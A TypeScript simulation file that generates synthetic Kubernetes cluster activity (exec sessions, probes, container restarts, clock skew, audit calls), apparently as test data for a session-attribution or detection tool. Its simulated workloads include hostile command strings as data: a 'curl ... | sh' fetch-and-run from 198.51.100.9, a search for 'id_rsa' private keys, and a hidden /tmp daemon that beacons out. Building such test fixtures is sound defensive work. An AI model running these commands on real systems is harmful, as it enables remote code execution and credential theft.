/**
 * A cluster that lives through a scenario: nodes, pods whose containers restart, probes, people with exec sessions. Says what happened in true time;
 * how an agent or an API server told it is for `tell.ts`. Nothing here is shared with the product or with its sample.
 */
import { Chance } from './chance';
import { COPIES, ONCE, PROBES, SERVERS, SHELLS, WORK, WRAPPED } from './commands';
import { number } from './pids';
import { type Habits, habitsOf, type Scenario } from './scenario';

export interface Node {
  readonly name: string;
  readonly cluster: number;
  /** Its clock minus true time. */
  readonly offset: number;
  /** Set by so much at a time. */
  readonly step?: { readonly at: number; readonly by: number };
  /** Seconds that it gains in a second. */
  readonly drift?: number;
}

/** What the node's clock shows. */
export const clockOf = ({ offset, step, drift = 0 }: Node, at: number): number =>
  at * (1 + drift) + offset + (step && at >= step.at ? step.by : 0);

/** One run of a container. */
export interface Life {
  readonly container: Container;
  readonly id: string;
  readonly from: number;
  readonly until: number;
  readonly init: Process;
  vpids: number;
}

export interface Container {
  readonly node: Node;
  readonly namespace: string;
  readonly pod: string;
  readonly name: string;
  readonly sharedPids: boolean;
  readonly lives: Life[];
}

export interface Process {
  readonly node: Node;
  readonly argv: readonly string[];
  readonly start: number;
  end: number;
  /** Undefined: the runtime's own, outside the container. */
  readonly parent?: Process;
  /** The image on the same process id that it replaced by exec. */
  readonly replaced?: Process;
  /** Its parent ended before it began: the container's first process adopted it. */
  readonly adopted?: boolean;
  life?: Life;
  readonly tty: boolean;
  /** It runs below a fork of its parent that executed nothing, so that no agent told of it. */
  readonly forked?: boolean;
  /** Started below the container's entry point. */
  readonly init: boolean;
  readonly probe: boolean;
  /** Audit id of the call that caused it. */
  readonly session?: string;
  /** Root of its terminal session. */
  readonly leader?: Process;
  pid: number;
  vpid: number;
  /** Number of its terminal, the same for all below one root. */
  pts: number;
}

/** Opened by a process. */
export interface Connection {
  readonly process: Process;
  readonly at: number;
  readonly address: string;
  readonly port: number;
}

export interface Call {
  readonly auditId: string;
  readonly verb: 'create' | 'get';
  readonly server: number;
  readonly user: string;
  readonly container: Container;
  readonly argv: readonly string[];
  readonly tty: boolean;
  readonly code: number;
  readonly received: number;
  readonly ready: number;
  readonly complete: number;
}

export interface World {
  readonly scenario: Scenario;
  readonly habits: Habits;
  readonly chance: Chance;
  readonly containers: readonly Container[];
  readonly processes: readonly Process[];
  /** Images that another took the place of. */
  readonly replaced: ReadonlySet<Process>;
  readonly connections: readonly Connection[];
  readonly calls: readonly Call[];
  /** Clocks of the API servers minus true time. */
  readonly servers: readonly number[];
}

export function live(scenario: Scenario, seed: number): World {
  const chance = new Chance(seed);
  const habits = habitsOf(chance, scenario.slowness);
  const off = (): number => (scenario.offset ? chance.within(-scenario.offset, scenario.offset) : chance.within(-0.01, 0.01));
  const clusters = scenario.twins ? [0, 1] : [0];
  const nodes = clusters.flatMap((cluster) =>
    ['node-a', 'node-b', 'node-c'].map((name): Node => {
      const step = scenario.step && { at: chance.within(0.3, 0.7) * scenario.seconds, by: chance.of([-1, 1]) * scenario.step };
      const drift = scenario.drift && chance.within(-scenario.drift, scenario.drift);
      const own = { name: cluster === 0 ? name : name.replace('node', 'worker'), cluster, offset: off() };
      return { ...own, ...(step && { step }), ...(drift && { drift }) };
    }),
  );
  const apart = scenario.serversApart;
  const servers = apart ? [chance.within(-apart, 0), chance.within(0, apart)] : scenario.offset ? [off() / 4, off() / 4] : [0, 0];
  const processes: Process[] = [];
  const connections: Connection[] = [];
  const calls: Call[] = [];
  const until = scenario.seconds;

  const begin = (process: Omit<Process, 'pid' | 'vpid' | 'pts'>): Process => {
    const made = { ...process, pid: 0, vpid: 0, pts: 0 };
    processes.push(made);
    return made;
  };

  const pods = Array.from({ length: 8 }, () => `${chance.of(['shop', 'cart', 'mail', 'auth'])}-${chance.hex(5)}`);
  const namespaces = pods.map(() => chance.of(['store', 'office']));
  const containers = Array.from({ length: 8 * clusters.length }, (_, n): Container => {
    const [i, cluster] = [n % 8, Math.floor(n / 8)];
    const pod = pods[i] as string;
    const made: Container = {
      node: nodes[cluster * 3 + (i % 3)] as Node,
      namespace: namespaces[i] as string,
      pod,
      name: 'main',
      sharedPids: scenario.sharedPids === true && i % 3 === 0,
      lives: [],
    };
    const cuts = scenario.restarts && i % 2 === 0 ? [chance.within(0.2, 0.5) * until, chance.within(0.55, 0.9) * until] : [];
    let from = -chance.within(60, 3600);
    for (const cut of [...cuts, until + 600]) {
      const argv = chance.of(SERVERS);
      const init = begin({ node: made.node, argv, start: from, end: cut, tty: false, init: true, probe: false });
      const life: Life = { container: made, id: chance.hex(64), from, until: cut, init, vpids: 0 };
      init.life = life;
      made.lives.push(life);
      from = cut + chance.within(1, 4);
    }
    return made;
  });
  // A second container in some pods: a call names its container, GKE's does not.
  for (const first of containers.slice(0, 3)) {
    const from = -30;
    const init = begin({
      node: first.node,
      argv: ['envoy', '-c', '/e.yaml'],
      start: from,
      end: until + 600,
      tty: false,
      init: true,
      probe: false,
    });
    const side: Container = { ...first, name: 'proxy', lives: [] };
    const life: Life = { container: side, id: chance.hex(64), from, until: until + 600, init, vpids: 0 };
    init.life = life;
    side.lives.push(life);
    containers.push(side);
  }

  const lifeAt = (container: Container, at: number): Life | undefined => container.lives.find((l) => l.from < at && at < l.until);
  const delay = (): number =>
    chance.holds(habits.slow) ? chance.logNormal(habits.slowDelay, 0.9) : chance.logNormal(habits.delay, habits.delaySigma);

  /** Another image on the same process id. */
  const replace = (image: Process, argv: readonly string[], at: number): Process => {
    const next = begin({ ...image, argv, start: at, replaced: image });
    image.end = at;
    return next;
  };

  /** Commands below a shell, until it ends. */
  const work = (root: Process, life: Life, session: string | undefined, init: boolean): void => {
    let at = root.start + chance.within(0.05, 2);
    const join = (process: Parameters<typeof begin>[0]): Process => {
      const made = begin(process);
      if (scenario.connections && chance.holds(0.3))
        connections.push({
          process: made,
          at: chance.within(made.start, made.end),
          address: `198.51.100.${chance.whole(1, 250)}`,
          port: chance.of([80, 443, 5432]),
        });
      return made;
    };
    const below = (parent: Process, argv: readonly string[], start: number, lasts: number, adopted = false): Process =>
      join({
        ...(adopted && { adopted }),
        node: root.node,
        argv,
        start,
        end: Math.min(start + lasts, life.until),
        parent,
        life,
        tty: root.tty,
        init,
        probe: false,
        session,
        leader: root,
        forked: !adopted && chance.holds(0.08),
      });
    while (at < root.end - 0.05) {
      const lasts = Math.min(chance.logNormal(0.05, 1.5), Math.max(0.002, root.end - at - 0.01));
      if (chance.holds(0.12)) {
        const shell = below(root, ['sh', '-c', 'curl -s http://198.51.100.9/i | sh'], at, lasts);
        below(shell, ['curl', '-s', 'http://198.51.100.9/i'], at + lasts * 0.2, lasts * 0.5);
        below(shell, ['sh'], at + lasts * 0.25, lasts * 0.6);
      } else if (scenario.replaced && chance.holds(0.2)) {
        const first = below(root, ['sh', '-c', 'exec find / -name id_rsa'], at, lasts);
        replace(first, ['find', '/', '-name', 'id_rsa'], at + lasts * 0.1);
      } else below(root, chance.of(WORK), at, lasts);
      at += lasts + chance.logNormal(3, 1);
    }
    if (scenario.daemons && session !== undefined && root.end - root.start > 5 && chance.holds(0.4)) {
      const from = root.start + (root.end - root.start) * chance.within(0.3, 0.9);
      const daemon = below(life.init, ['/tmp/.x', '-d'], from, chance.within(20, 300), true);
      below(daemon, ['curl', '-s', 'http://198.51.100.9/beat'], Math.min(daemon.end - 0.5, root.end + 3), 0.2);
    }
    if (scenario.odd && session !== undefined && chance.holds(0.08)) {
      const stays = below(root, ['nohup', 'sleep', '900'], root.end - 0.03, chance.within(30, 900));
      below(stays, ['sleep', '900'], root.end + 4, stays.end - root.end - 4);
    }
  };

  const servers0 = servers.length;
  const call = (container: Container, received: number, argv: readonly string[], tty: boolean, lasts: number): void => {
    const life = lifeAt(container, received);
    if (!life || received + 30 > life.until) return;
    const auditId = [8, 4, 4, 4, 12].map((n) => chance.hex(n)).join('-');
    const told: { verb: Call['verb'] } & Omit<Call, 'verb' | 'code' | 'ready' | 'complete'> = {
      auditId,
      verb: scenario.websockets && chance.holds(0.7) ? 'get' : 'create',
      server: scenario.twins ? container.node.cluster : chance.whole(0, servers0 - 1),
      user: `person-${chance.whole(1, 6)}`,
      container,
      argv,
      tty,
      received,
    };
    const ready = received + chance.logNormal(habits.roundTrip, 0.5);
    if (told.verb === 'get' && chance.holds(0.15)) {
      // Asked again by itself, as a POST.
      const refused = received - chance.within(0.02, 0.1);
      const id = [8, 4, 4, 4, 12].map((n) => chance.hex(n)).join('-');
      calls.push({ ...told, auditId: id, received: refused, code: 403, ready: refused + 0.004, complete: refused + 0.004 });
      told.verb = 'create';
    }
    if (scenario.odd && chance.holds(0.05)) {
      calls.push({ ...told, code: 403, ready: received + 0.003, complete: received + 0.003 });
      return;
    }
    if (scenario.odd && chance.holds(0.05)) {
      calls.push({ ...told, argv: ['nosuch', '--version'], code: 101, ready, complete: ready + chance.logNormal(0.2, 0.4) });
      return;
    }
    const start = ready + delay();
    const end = Math.min(start + lasts, life.until);
    const left = scenario.odd && !tty && chance.holds(0.04) && lasts > 3;
    const complete = left ? start + chance.within(0.5, lasts - 1) : end + chance.logNormal(habits.gap, habits.gapSigma);
    calls.push({ ...told, code: 101, ready, complete });
    const root = begin({ node: container.node, argv, start, end, life, tty, init: false, probe: false, session: auditId });
    const image =
      WRAPPED.find(({ asked }) => asked === argv)?.runs ??
      (scenario.replaced && argv.length === 1 && chance.holds(0.4) ? ['bash', '--login'] : undefined);
    work(image ? replace(root, image, start + chance.within(0.001, 0.02)) : root, life, auditId, false);
  };

  for (let i = 0; i < scenario.sessions; i++) {
    const container = chance.of(scenario.hot ? containers.slice(0, 2) : containers);
    const shell = chance.holds(0.55);
    const isLong = scenario.long === true && shell && chance.holds(0.4);
    const at = chance.within(60, isLong ? until / 3 : until - 700);
    const tty = shell && chance.holds(0.85);
    const lasts = isLong ? chance.within(1800, until / 2) : shell ? chance.logNormal(40, 1.2) : chance.logNormal(0.06, 1.4);
    const copy = scenario.copies && chance.holds(0.4) ? chance.of(COPIES) : undefined;
    const argv = shell
      ? scenario.wrapped && chance.holds(0.6)
        ? chance.of(WRAPPED).asked
        : chance.of(SHELLS)
      : (copy ?? (scenario.probes && chance.holds(0.3) ? chance.of(PROBES) : chance.of(ONCE)));
    call(container, at, argv, tty, isLong ? lasts : Math.min(lasts, 500));
    if (scenario.crowd && shell && i % 4 === 0) {
      const others = chance.whole(1, 3);
      for (let n = 0; n < others; n++)
        call(container, at + chance.within(0, 1), argv, tty, Math.min(chance.logNormal(40, 1.2), 500));
    }
  }

  if (scenario.script) {
    // A service account that runs the probe's own command through the API server each minute.
    for (const [i, container] of containers.slice(0, 4).entries())
      for (let at = chance.within(5, 60); at < until - 60; at += 60 + chance.within(0, 0.3))
        call(container, at, PROBES[i % PROBES.length] as readonly string[], false, chance.logNormal(0.03, 0.8));
  }

  /** A kubelet's probe: each wait is the period and a little. */
  function beat(container: Container, life: Life, argv: readonly string[], period: number): void {
    const slack = chance.within(0.005, 0.06);
    for (let at = Math.max(0, life.from) + chance.within(1, period); at < Math.min(until, life.until) - 1; at += period) {
      const start = at + chance.logNormal(slack, 0.7);
      const end = start + chance.logNormal(0.02, 0.6);
      begin({ node: container.node, argv, start, end, life, tty: false, init: false, probe: true });
    }
  }

  for (const [i, container] of containers.entries()) {
    for (const life of container.lives) {
      for (let at = Math.max(0, life.from) + 7; scenario.cron && at < Math.min(until, life.until) - 5; at += 60) {
        // The container's own clock work runs what people run too, below its first process.
        const own = { node: container.node, life, tty: false, init: true, probe: false } as const;
        const start = at + chance.within(0, 0.02);
        begin({ ...own, argv: ['ls', '-la', '/srv'], start, end: start + 0.03, parent: life.init });
      }
      // Work of the container itself: shells below its entry point, at no steady pace.
      for (
        let at = Math.max(0, life.from) + chance.within(5, 200);
        at < Math.min(until, life.until) - 5;
        at += chance.logNormal(240, 1)
      ) {
        const own = begin({
          node: container.node,
          argv: ['sh', '-c', 'ls -la /srv'],
          start: at,
          end: at + 0.4,
          parent: life.init,
          life,
          tty: false,
          init: true,
          probe: false,
        });
        work(own, life, undefined, true);
      }
      if (!scenario.probes || i % 2 !== 0) continue;
      const argv = PROBES[i % PROBES.length] as readonly string[];
      beat(container, life, argv, habits.period);
      // The same command is asked as liveness and as readiness, each at a pace of its own.
      if (scenario.twoProbes) beat(container, life, argv, habits.period === 10 ? 7 : 10);
    }
  }
  number(processes, scenario, chance);
  const replaced = new Set(processes.flatMap((process) => process.replaced ?? []));
  return { scenario, habits, chance, containers, processes, replaced, connections, calls, servers };
}
